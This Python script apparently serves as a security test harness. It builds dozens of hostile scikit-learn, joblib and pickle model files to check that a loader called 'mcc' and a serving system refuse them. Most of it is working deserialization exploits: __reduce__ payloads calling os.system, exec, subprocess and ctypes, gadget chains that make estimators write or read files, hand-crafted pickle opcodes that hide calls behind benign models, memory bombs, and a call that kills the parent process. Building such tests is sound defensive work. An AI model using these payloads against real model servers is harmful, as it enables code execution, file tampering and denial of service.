#!/usr/bin/python3
"""Make hostile model files, to prove that `mcc` refuses them and that a server stops them.

    hostile_models.py list                              print the models as one JSON list
    hostile_models.py make NAME FOLDER --marker PATH    write one model file into FOLDER and print its path
    hostile_models.py make all FOLDER --marker PATH     write all of them; a marker of each model is PATH.NAME
    hostile_models.py run FILE ROW                      load FILE as a server does and ask it once for ROW (JSON)

`effect` says how success is seen: `marker` creates the file PATH; `connect` connects to the UNIX socket PATH; `memory` takes memory without
bound; `read` reads a file that the request names; `format` runs a format string of the file; `none` does no harm with the versions that are installed (others, and other combinations, can use it).
`clean` models import only names that ordinary models import: what makes them hostile is how the names are combined.
"""
import collections
import copyreg
import functools
import io
import json
import os
import pathlib
import pickle
import struct
import subprocess
import sys
import warnings

warnings.simplefilter("ignore")
os.environ.setdefault("OMP_NUM_THREADS", "1")

import joblib
import numpy as np

MODELS = {}


def model(row=((1.0,),), file="joblib", effect="marker", clean=False):
    def add(make):
        MODELS[make.__name__] = {"make": make, "file": f"{make.__name__}.{file}", "row": [list(values) if isinstance(values, tuple) else values for values in row],
                                 "effect": effect, "clean": clean, "about": make.__doc__}
        return make
    return add


class Call:
    """Pickles as the call of a function."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def line():
    from sklearn.linear_model import LinearRegression
    return LinearRegression().fit(np.array([[0.0], [1.0]]), [0.0, 1.0])


def chooser():
    from sklearn.linear_model import LogisticRegression
    return LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])


def pipe(*steps):
    from sklearn.pipeline import Pipeline
    return Pipeline([(f"s{index}", step) for index, step in enumerate(steps)])


def function(func, **options):
    from sklearn.preprocessing import FunctionTransformer
    return FunctionTransformer(func, **options)


def constant(value):
    """Two steps which answer the same object for every row."""
    box = np.empty((), dtype=object)
    box[()] = value
    return [function(functools.partial(np.where, True, box)), function(np.amax)]


def stacked(parts, methods, final=None):
    from sklearn.ensemble import StackingRegressor
    stack = StackingRegressor([("lr", line())])
    stack.estimators_, stack.stack_method_, stack.final_estimator_ = parts, methods, final or line()
    return stack


def touch(path):
    """A function that makes the marker whatever it is called with."""
    return Call(eval, f"lambda *a, **k: __import__('pathlib').Path({path!r}).touch() or (a[0] if a else None)")


def bytes_of(path):
    return np.frombuffer(b"made by a model file\n", np.uint8)


# Methods that are named in the file, called on objects of the file.

@model(clean=True)
def stack_tofile(path):
    """StackingRegressor.stack_method_ names ndarray.tofile (S1, g2)."""
    return pipe(*constant(path), stacked([bytes_of(path)], ["tofile"]))


@model(clean=True)
def stack_tofile_then_predict(path):
    """Two parts: one writes a file, the next predicts as usual (S1, g3: a file of the server is overwritten)."""
    return pipe(*constant(path), stacked([bytes_of(path), pipe(*constant(np.zeros((1, 1))), line())], ["tofile", "predict"]))


@model(clean=True)
def stack_import(path):
    """Writes pandas.py next to the server's code, and makes check_array import it in the same request (S1, g4)."""
    from sklearn.utils import Bunch
    code = f"open({path!r}, 'w').close()\nclass _: pass\n".encode()
    target = os.path.join(os.environ.get("HOSTILE_CODE_FOLDER") or os.path.dirname(path) or ".", "pandas.py")
    odd = Bunch(dtypes=np.zeros(1))
    return pipe(*constant(target), stacked([np.frombuffer(code, np.uint8), pipe(*constant(odd), line())], ["tofile", "predict"]))


@model(clean=True)
def stack_dump(path):
    """StackingRegressor.stack_method_ names ndarray.dump."""
    return pipe(*constant(path), stacked([np.arange(3.0)], ["dump"]))


@model(clean=True, effect="none")
def stack_frame_to_csv(path):
    """An estimator that is a DataFrame, whose to_csv is named."""
    import pandas
    return pipe(*constant(path), stacked([pandas.DataFrame({"a": ["import os"]})], ["to_csv"]))


@model(clean=True, effect="none")
def stack_frame_to_pickle(path):
    """An estimator that is a Series, whose to_pickle is named."""
    import pandas
    return pipe(*constant(path), stacked([pandas.Series([1.0])], ["to_pickle"]))


@model(clean=True, effect="none")
def stack_frame_eval(path):
    """An estimator that is a DataFrame, whose eval runs an expression of the file."""
    import pandas
    return pipe(*constant(f"a + @np.savetxt('{path}', [1.0])"), stacked([pandas.DataFrame({"a": [1.0]})], ["eval"]))


@model(clean=True)
def stack_masked_tofile(path):
    """An array of another class, whose tofile is named by a StackingClassifier."""
    from sklearn.ensemble import StackingClassifier
    from sklearn.preprocessing import LabelEncoder
    stack = StackingClassifier([("lr", chooser())])
    stack.estimators_, stack.stack_method_, stack.final_estimator_ = [np.matrix([[1.0]])], ["tofile"], chooser()
    stack._label_encoder = LabelEncoder().fit([0, 1])
    return pipe(*constant(path), stack)


@model(clean=True)
def stack_array_of_objects(path):
    """The estimators are the items of an array of objects."""
    parts = np.empty(1, dtype=object)
    parts[0] = bytes_of(path)
    return pipe(*constant(path), stacked(parts, np.array(["tofile"], dtype=object)))


@model(clean=True)
def stack_booster_save(path):
    """An estimator that is an XGBoost Booster, whose save_model is named."""
    import xgboost
    booster = xgboost.train({"max_depth": 1}, xgboost.DMatrix(np.array([[0.0], [1.0]]), [0.0, 1.0]), 1)
    return pipe(*constant(path), stacked([booster], ["save_model"]))


@model(clean=True)
def stack_deep_inside(path):
    """The same inside a ColumnTransformer, a voting and a search."""
    from sklearn.ensemble import VotingRegressor
    from sklearn.model_selection import GridSearchCV
    search = GridSearchCV(line(), {})
    search.best_estimator_ = pipe(*constant(path), stacked([bytes_of(path)], ["tofile"]))
    search.refit = True
    voting = VotingRegressor([("a", line())])
    voting.estimators_ = [search]
    return voting


@model(effect="format", clean=True)
def stack_format(path):
    """An estimator that is a text, whose format method reaches attributes of objects."""
    return pipe(*constant(0), stacked(["{0.__class__.__mro__}"], ["format"]))


@model(effect="memory", clean=True)
def stack_random_bytes(path):
    """An estimator that is a RandomState, whose bytes method allocates what it is asked for."""
    return pipe(*constant(2 ** 44), stacked([np.random.RandomState(0)], ["bytes"]))


@model(effect="none", clean=True)
def chain_method(path):
    """ClassifierChain.chain_method_ names a method (scikit-learn 1.5 and later)."""
    from sklearn.multioutput import ClassifierChain
    chain = ClassifierChain(chooser(), order=[0]).fit(np.array([[0.0], [1.0]]), np.array([[0], [1]]))
    chain.chain_method_, chain.chain_method, chain.estimators_ = "tofile", "tofile", [bytes_of(path)]
    return pipe(*constant(path), chain)


@model(effect="none", clean=True)
def response_method(path):
    """A scorer's _response_method names a method (scikit-learn 1.4 and later)."""
    from sklearn.metrics import make_scorer, accuracy_score
    from sklearn.model_selection import GridSearchCV
    scorer = make_scorer(accuracy_score)
    scorer._response_method = ("tofile",)
    search = GridSearchCV(chooser(), {}, scoring=scorer)
    search.scorer_, search.best_estimator_ = scorer, bytes_of(path)
    return search


@model(effect="none", clean=True)
def threshold_response_method(path):
    """The response_method of a classifier with a threshold names a method (scikit-learn 1.5 and later)."""
    from sklearn.calibration import CalibratedClassifierCV
    calibrated = CalibratedClassifierCV(chooser())
    calibrated.response_method, calibrated._response_method = "tofile", "tofile"
    return calibrated


@model(effect="none", clean=True)
def importance_getter_private(path):
    """An importance getter that reaches into the interpreter through attributes."""
    from sklearn.feature_selection import SelectFromModel
    select = SelectFromModel(line(), prefit=True, importance_getter="predict.__func__.__globals__")
    return select


@model(effect="read", row=(("/etc/hostname",),), clean=True)
def vectorizer_reads_files(path):
    """A CountVectorizer that takes the texts of a request as names of files."""
    from sklearn.feature_extraction.text import CountVectorizer
    words = CountVectorizer().fit(["some words"])
    words.input = "filename"
    return words


@model(clean=True)
def method_in_the_state(path):
    """The state of an estimator has a member under the name of its method."""
    ridge = line()
    ridge.predict = functools.partial(np.where, True, np.array([1.0]))
    voting = pipe(*constant(path), stacked([ridge, bytes_of(path)], ["predict", "tofile"]))
    return voting


@model(clean=True, effect="none")
def bunch_as_estimator(path):
    """A Bunch with functions in the place of an estimator."""
    from sklearn.utils import Bunch
    return pipe(Bunch(transform=np.amax, fit=np.amax), Bunch(predict=functools.partial(np.where, True, "text"), fit=np.amax))


# Functions where a class takes functions.

def written(path):
    return functools.partial(np.savetxt, path)


@model()
def function_savetxt(path):
    """FunctionTransformer.func is a partial of np.savetxt."""
    return pipe(function(written(path)), line())


@model()
def function_save_bound(path):
    """FunctionTransformer.func is an operator.methodcaller of tofile."""
    import operator
    return pipe(function(operator.methodcaller("tofile", path)), line())


@model()
def function_inverse(path):
    """TransformedTargetRegressor's transformer has a function of the file as its inverse_func."""
    from sklearn.compose import TransformedTargetRegressor
    fitted = TransformedTargetRegressor(line(), func=np.log1p, inverse_func=np.expm1).fit(np.array([[0.0], [1.0]]), [0.0, 1.0])
    fitted.transformer_.inverse_func = touch(path)
    return fitted


@model()
def function_nested_partial(path):
    """A partial of a partial of joblib.dump."""
    return pipe(function(functools.partial(functools.partial(joblib.dump, filename=path))), line())


@model()
def function_memmap(path):
    """np.memmap makes the file that it is given."""
    return pipe(function(functools.partial(np.memmap, path, "u1", "w+", 0)), line())


@model()
def function_lib_format(path):
    """numpy's open_memmap makes the file that it is given."""
    return pipe(function(functools.partial(np.lib.format.open_memmap, path, "w+", np.dtype("f8"), (1,))), line())


@model()
def pooling_function(path):
    """FeatureAgglomeration.pooling_func is called by transform."""
    from sklearn.cluster import FeatureAgglomeration
    grouped = FeatureAgglomeration(n_clusters=1).fit(np.array([[0.0, 1.0], [1.0, 0.0]]))
    grouped.pooling_func = touch(path)
    return grouped


MODELS["pooling_function"]["row"] = [[1.0, 2.0]]


@model()
def neighbours_weights(path):
    """KNeighborsRegressor.weights is called with distances."""
    from sklearn.neighbors import KNeighborsRegressor
    near = KNeighborsRegressor(1).fit(np.array([[0.0], [1.0]]), [0.0, 1.0])
    near.weights = touch(path)
    return near


@model()
def neighbours_metric(path):
    """KNeighborsRegressor.effective_metric_ is a function for pairs of rows."""
    from sklearn.neighbors import KNeighborsRegressor
    near = KNeighborsRegressor(1, algorithm="brute").fit(np.array([[0.0], [1.0]]), [0.0, 1.0])
    near.metric = near.effective_metric_ = Call(eval, f"lambda a, b, **k: __import__('pathlib').Path({path!r}).touch() or 1.0")
    return near


@model()
def kernel_function(path):
    """KernelRidge.kernel is a function for pairs of rows."""
    from sklearn.kernel_ridge import KernelRidge
    ridge = KernelRidge().fit(np.array([[0.0], [1.0]]), [0.0, 1.0])
    ridge.kernel = Call(eval, f"lambda a, b, **k: __import__('pathlib').Path({path!r}).touch() or 1.0")
    return ridge


@model()
def support_vector_kernel(path):
    """SVR.kernel is a function for two tables."""
    from sklearn.metrics.pairwise import linear_kernel
    from sklearn.svm import SVR
    fitted = SVR(kernel=linear_kernel).fit(np.array([[0.0], [1.0]]), [0.0, 1.0])
    fitted.kernel = touch(path)
    return fitted


@model(row=("some text",))
def tokenizer(path):
    """CountVectorizer.tokenizer is called with each text."""
    from sklearn.feature_extraction.text import CountVectorizer
    words = CountVectorizer().fit(["some words"])
    words.tokenizer = touch(path)
    return words


@model(row=("some text",))
def preprocessor(path):
    """TfidfVectorizer.preprocessor is called with each text."""
    from sklearn.feature_extraction.text import TfidfVectorizer
    words = TfidfVectorizer().fit(["some words"])
    words.preprocessor = touch(path)
    return words


@model(row=("some text",))
def analyzer(path):
    """HashingVectorizer.analyzer is called with each text."""
    from sklearn.feature_extraction.text import HashingVectorizer
    return HashingVectorizer(analyzer=touch(path))


@model(row=("other words",))
def vocabulary_with_factory(path):
    """A vocabulary that makes what is missing with a function of the file."""
    from sklearn.feature_extraction.text import CountVectorizer
    words = CountVectorizer().fit(["some words"])
    words.vocabulary_ = collections.defaultdict(functools.partial(np.savetxt, path, np.zeros(1)), words.vocabulary_)
    return words


@model()
def importance_function(path):
    """SelectFromModel.importance_getter is called with the estimator."""
    from sklearn.feature_selection import SelectFromModel
    select = SelectFromModel(line(), prefit=True, threshold=0.0).fit(np.array([[0.0], [1.0]]), [0.0, 1.0])
    select.importance_getter = Call(eval, f"lambda e: __import__('pathlib').Path({path!r}).touch() or e.coef_")
    return select


@model()
def column_chooser(path):
    """ColumnTransformer has a step with a function that writes."""
    from sklearn.compose import ColumnTransformer
    columns = ColumnTransformer([("a", function(np.log1p), [0])]).fit(np.array([[0.0], [1.0]]))
    columns.transformers_ = [("a", function(written(path)), [0])]
    return columns


@model()
def scorer_function(path):
    """A scorer's function runs where the server asks for a score; it is made at load."""
    from sklearn.model_selection import GridSearchCV
    search = GridSearchCV(line(), {})
    search.best_estimator_ = line()
    search.scorer_ = search.scoring = Call(pathlib.Path(path).touch.__func__, pathlib.PosixPath(path))
    return search


@model()
def gaussian_kernel(path):
    """A Gaussian process whose PairwiseKernel takes its metric from the file."""
    from sklearn.gaussian_process import GaussianProcessRegressor
    from sklearn.gaussian_process.kernels import PairwiseKernel
    process = GaussianProcessRegressor(PairwiseKernel(metric="linear"), optimizer=None, alpha=1.0).fit(np.array([[0.0], [1.0]]), [0.0, 1.0])
    process.kernel_.metric = Call(eval, f"lambda a, b, **k: __import__('pathlib').Path({path!r}).touch() or 1.0")
    return process


@model()
def estimator_of_own_kind(path):
    """A class made at load, with a predict method of the file."""
    return Call(eval, f"type('M', (), {{'predict': lambda self, X: __import__('pathlib').Path({path!r}).touch() or [1.0]}})()")


# What runs while the file is loaded.

@model(file="pkl")
def reduce_system(path):
    """The classic: os.system in __reduce__."""
    return Call(os.system, f"touch '{path}'")


@model(file="pkl")
def reduce_popen(path):
    """subprocess.Popen in __reduce__."""
    return Call(subprocess.Popen, ["touch", path])


@model(file="pkl")
def reduce_exec(path):
    """builtins.exec in __reduce__."""
    return Call(exec, f"open({path!r}, 'w').close()")


@model(file="pkl")
def reduce_fork(path):
    """A forked child writes the file."""
    return Call(exec, f"import os\nif os.fork() == 0:\n    open({path!r}, 'w').close()\n    os._exit(0)\nos.wait()")


@model(file="pkl")
def reduce_thread(path):
    """A thread that was started at load writes the file."""
    return Call(exec, f"import threading\nt = threading.Thread(target=lambda: open({path!r}, 'w').close())\nt.start()\nt.join()")


@model(file="pkl")
def reduce_ctypes(path):
    """libc's creat through ctypes, which no audit hook of open sees."""
    return Call(exec, f"import ctypes\nctypes.CDLL(None).creat({os.fsencode(path)!r}, 0o600)")


@model(file="pkl")
def reduce_symlink(path):
    """A symbolic link is made."""
    return Call(os.symlink, "/etc/hostname", path)


@model(file="pkl")
def reduce_mkdir(path):
    """A folder is made."""
    return Call(os.mkdir, path)


@model(file="pkl")
def reduce_rename(path):
    """A file that the model may write is renamed to a place where it may not."""
    return Call(exec, "import os, tempfile\nhandle, name = tempfile.mkstemp()\nos.close(handle)\nimport shutil\nshutil.move(name, " + repr(path) + ")")


@model(file="pkl")
def reduce_mknod(path):
    """A named pipe is made."""
    return Call(os.mkfifo, path)


@model(file="pkl")
def reduce_sqlite(path):
    """A database library makes the file."""
    return Call(exec, f"import sqlite3\nsqlite3.connect({path!r}).execute('create table t (a)')")


@model(file="pkl")
def reduce_log_file(path):
    """logging.FileHandler makes the file."""
    import logging
    return Call(logging.FileHandler, path)


@model(file="pkl")
def reduce_import(path):
    """A module that the file planted is imported."""
    code = f"open({path!r}, 'w').close()"
    return Call(exec, f"import os, sys, tempfile\nd = tempfile.mkdtemp()\nopen(d + '/planted_module.py', 'w').write({code!r})\nsys.path.insert(0, d)\nimport planted_module")


@model(file="pkl")
def reduce_executed_file(path):
    """A program that the file wrote into the temporary folder is executed."""
    script = f"#!/bin/sh\ntouch '{path}'\n"
    return Call(exec, f"import os, tempfile\nh, n = tempfile.mkstemp()\nos.write(h, {script!r}.encode())\nos.close(h)\nos.chmod(n, 0o700)\nos.spawnv(os.P_WAIT, n, [n])")


@model(file="pkl", effect="connect")
def reduce_unix_socket(path):
    """Connects to the UNIX socket PATH."""
    return Call(exec, f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({path!r})\ns.send(b'x')")


@model(file="pkl")
def reduce_internet_socket(path):
    """Opens a TCP socket, connects it to itself, and notes the success in PATH."""
    return Call(exec, "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen(1)\nc = socket.create_connection(s.getsockname(), 2)\n"
                f"open({path!r}, 'w').close()")


@model(file="pkl", effect="kill")
def reduce_kill_parent(path):
    """Kills the process that started the worker, with SIGUSR1."""
    return Call(exec, "import os, signal\nos.kill(os.getppid(), signal.SIGUSR1)")


@model(file="pkl")
def reduce_timeit(path):
    """timeit.timeit compiles and runs its argument."""
    import timeit
    return Call(timeit.timeit, f"open({path!r}, 'w').close()", "pass", timeit.default_timer, 1)


@model(file="pkl")
def reduce_nested_pickle(path):
    """A pickle in bytes inside a pickle."""
    return Call(pickle.loads, pickle.dumps(Call(os.system, f"touch '{path}'")))


@model()
def array_of_objects(path):
    """An array of objects, which joblib hands to pickle itself, has the call."""
    box = np.empty(1, dtype=object)
    box[0] = Call(os.system, f"touch '{path}'")
    return {"model": line(), "box": box}


@model(file="pkl")
def hidden_in_state(path):
    """The call is the value of an attribute that nothing reads."""
    ridge = line()
    ridge.note_ = Call(os.system, f"touch '{path}'")
    return ridge


@model(file="pkl")
def key_of_a_dict(path):
    """The call makes the key of a dict."""
    return Bytes(b"}" + pickle.dumps(Call(os.system, f"touch '{path}'"), 2)[2:-1] + b"Ns.")


class Bytes(bytes):
    """A file that is written as it is."""


@model(file="pkl")
def popped_from_the_stack(path):
    """The call's answer is popped, and an honest model follows."""
    return Bytes(pickle.dumps(Call(os.system, f"touch '{path}'"), 2)[:-1] + b"0" + pickle.dumps(line(), 2)[2:])


@model(file="pkl")
def old_instruction(path):
    """The INST instruction of protocol 0."""
    return Bytes(b"(S'touch \"%b\"'\nios\nsystem\n." % os.fsencode(path))


@model(file="pkl")
def name_with_dots(path):
    """A name with dots reaches os through a library's module."""
    return Bytes(b"\x80\x04\x8c\x06joblib\x8c\x08os.mkdir\x93" + short(path) + b"\x85R.")


def short(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


@model(file="pkl")
def state_from_a_call(path):
    """The state of an estimator comes from a call."""
    return Bytes(pickle.dumps(line(), 2)[:-1] + b"0cbuiltins\nexec\n" + short(f"open({path!r}, 'w').close()") + b"\x85R.")


@model(file="pkl", clean=True, effect="none")
def reconstructor_with_base(path):
    """copyreg._reconstructor calls the constructor of the class in the place of its base (S12)."""
    from sklearn.linear_model import Ridge
    return Call(copyreg._reconstructor, Ridge, Ridge, 7)


@model(file="pkl", clean=True, effect="none")
def foreign_state(path):
    """The state for slots sets the class of an instance (S12)."""
    return Bytes(b"\x80\x04csklearn.ensemble._hist_gradient_boosting.predictor\nTreePredictor\n)\x81N}" + short("__class__")
                 + b"cbuiltins\ndict\ns\x86b.")


class WithState:
    """Pickles as an instance with a state of another kind than its own."""

    def __init__(self, instance, state):
        self.instance, self.state = instance, state

    def __reduce__(self):
        return copyreg._reconstructor, (type(self.instance), object, None), self.state


@model(clean=True)
def state_in_an_ordered_dict(path):
    """The attributes of an estimator come from an OrderedDict, not from a dict (S12)."""
    stack = stacked([bytes_of(path)], ["tofile"])
    return pipe(*constant(path), WithState(stack, collections.OrderedDict(vars(stack))))


# Memory.

def calls(module, name, arguments, build=b""):
    return Bytes(b"\x80\x04c%b\n%b\n%bR%b." % (module, name, arguments, build))


BIG = b"\x8a\x06\x00\x00\x00\x00\x00\x10"  # 2**44
RANGE = b"cbuiltins\nrange\n" + BIG + b"\x85R"


@model(file="pkl", effect="memory", clean=True)
def bomb_bytearray(path):
    """bytearray(2**44)."""
    return calls(b"builtins", b"bytearray", BIG + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_bytes(path):
    """bytes(2**44)."""
    return calls(b"builtins", b"bytes", BIG + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_set(path):
    """set(range(2**44))."""
    return calls(b"builtins", b"set", RANGE + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_counter(path):
    """Counter(range(2**44))."""
    return calls(b"collections", b"Counter", RANGE + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_deque(path):
    """deque(range(2**44))."""
    return calls(b"collections", b"deque", RANGE + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_fraction(path):
    """Fraction('1e999999999')."""
    return calls(b"fractions", b"Fraction", b"X\x0b\x00\x00\x001e999999999\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_array_shape(path):
    """An empty array of 2**44 items."""
    return calls(b"numpy.core.multiarray", b"_reconstruct", b"cnumpy\nndarray\n" + BIG + b"\x85C\x01b\x87")


@model(file="pkl", effect="memory", clean=True)
def bomb_array_set(path):
    """numpy's scalar of a type with two thousand million bytes."""
    return calls(b"numpy.core.multiarray", b"scalar", b"cnumpy\ndtype\nX\x0b\x00\x00\x00V2000000000\x89\x88\x87R\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_repeated_frozenset(path):
    """frozenset(range(2**44)) in a set of parameters of a search."""
    return calls(b"builtins", b"frozenset", RANGE + b"\x85")


@model(file="pkl", effect="memory", clean=True)
def bomb_deep(path):
    """A million lists inside each other."""
    return Bytes(b"\x80\x04" + b"]" * 1_000_000 + b"a" * 999_999 + b".")


@model(effect="memory", clean=True)
def bomb_compressed(path):
    """An array of 512 MiB of zeros in half a megabyte."""
    import zlib
    packer, data = zlib.compressobj(6), io.BytesIO()
    head = io.BytesIO()
    joblib.dump(np.zeros(4), head)
    text = head.getvalue()
    shape = text.replace(b"K\x04\x85", b"J\x00\x00\x00\x04\x85", 1)
    data.write(packer.compress(shape[:-1]))
    block = bytes(1 << 20)
    for _ in range(512):
        data.write(packer.compress(block))
    data.write(packer.compress(b"."))
    data.write(packer.flush())
    return Bytes(data.getvalue())


@model(effect="memory")
def bomb_function(path):
    """FunctionTransformer.func makes an array of the size in the file."""
    return pipe(function(functools.partial(np.full, 2 ** 44)), line())


@model(effect="memory", clean=True)
def bomb_function_shape(path):
    """np.zeros_like with a shape of the file."""
    return pipe(function(np.zeros_like, kw_args={"shape": (2 ** 20, 2 ** 20)}), line())


@model(effect="memory", clean=True)
def bomb_function_type(path):
    """np.asarray with a type whose items have a thousand million bytes."""
    return pipe(function(np.asarray, kw_args={"dtype": "S1000000000"}), line())


@model(effect="memory", clean=True)
def bomb_class_as_function(path):
    """FunctionTransformer.func is the class bytearray."""
    return pipe(*constant(2 ** 44), function(bytearray), line())


@model(clean=True, effect="none")
def ufunc_error_object(path):
    """A ufunc gets an object whose write method it calls on errors."""
    return pipe(function(np.log, kw_args={"extobj": [8192, 0x4444, line()]}), line())


def write(name, folder, path):
    made = MODELS[name]
    value = made["make"](path)
    target = os.path.join(folder, made["file"])
    if isinstance(value, Bytes):
        with open(target, "wb") as file:
            file.write(value)
    elif made["file"].endswith(".pkl"):
        with open(target, "wb") as file:
            pickle.dump(value, file, 4)
    else:
        joblib.dump(value, target, protocol=4)
    return target


def run(target, row):
    if "HOSTILE_CODE_FOLDER" in os.environ:
        sys.path.insert(0, os.environ["HOSTILE_CODE_FOLDER"])
    loaded = joblib.load(target)
    rows = json.loads(row)
    table = np.array(rows) if rows and isinstance(rows[0], list) and not isinstance(rows[0][0], str) else [value[0] if isinstance(value, list) else value for value in rows]
    for method in ("predict", "transform"):
        if hasattr(loaded, method):
            getattr(loaded, method)(table)
            return


def main(arguments):
    if arguments == ["list"]:
        print(json.dumps([{"name": name, **{key: made[key] for key in ("file", "about", "row", "effect", "clean")}} for name, made in MODELS.items()], indent=1))
    elif len(arguments) == 5 and arguments[0] == "make" and arguments[3] == "--marker":
        _, name, folder, _, path = arguments
        os.makedirs(folder, exist_ok=True)
        for each in MODELS if name == "all" else [name]:
            print(write(each, folder, f"{path}.{each}" if name == "all" else path))
    elif len(arguments) == 3 and arguments[0] == "run":
        run(arguments[1], arguments[2])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
